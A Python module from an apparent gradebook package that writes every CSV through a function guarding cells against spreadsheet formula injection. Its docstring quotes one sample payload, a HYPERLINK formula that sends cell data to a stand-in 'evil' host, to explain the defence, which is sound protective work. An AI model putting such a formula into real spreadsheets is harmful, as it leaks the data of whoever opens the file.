"""Every CSV this package writes, through one function that spreadsheets cannot be tricked by.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read as a
formula by Excel, LibreOffice and Google Sheets when an instructor opens the file (OWASP's "CSV
injection"): a roster name such as ``=HYPERLINK("http://evil/?"&A1, "click")`` would run in the
instructor's spreadsheet. ``safe_cell`` puts a leading apostrophe before such a cell (the
spreadsheets' own mark for "text", not shown in the cell), except a plain number (``-5``,
``+3.5``, ``1e-3``), which a spreadsheet reads as that number and never as a formula.

Ids an LMS must match (a student id, an email, a login) cannot carry an apostrophe: the
gradebook refuses a roster whose id, email or login needs one (``needs_guard``), naming the file,
line and column, so every id reaches canvas.csv and moodle.csv exactly as the roster has it.
``csv_text`` is the writer of grades.csv, misconceptions.csv, similarity.csv, canvas.csv,
moodle.csv and roster-mismatch.csv (docs/gradebook.md).
"""

import csv
import io
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def needs_guard(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula (a plain number is not one)."""
    return text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text)


def safe_cell(value) -> str:
    """``value`` as a CSV cell no spreadsheet runs: text that would be a formula gets a leading
    apostrophe; numbers and every other text stay as they are (None is an empty cell), but for
    a carriage return inside the text, which becomes a line feed: Python's csv module quotes a
    cell holding a line feed, not one holding a lone carriage return, and a spreadsheet would
    start a new row there (``x\r=1+1`` would be a formula cell of its own)."""
    text = "" if value is None else str(value)
    text = "'" + text if needs_guard(text) else text
    return text.replace("\r\n", "\n").replace("\r", "\n")


def csv_text(rows, lineterminator: str = "\n") -> str:
    """The CSV text of ``rows`` (the header included), every cell through ``safe_cell``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=lineterminator)
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return buffer.getvalue()
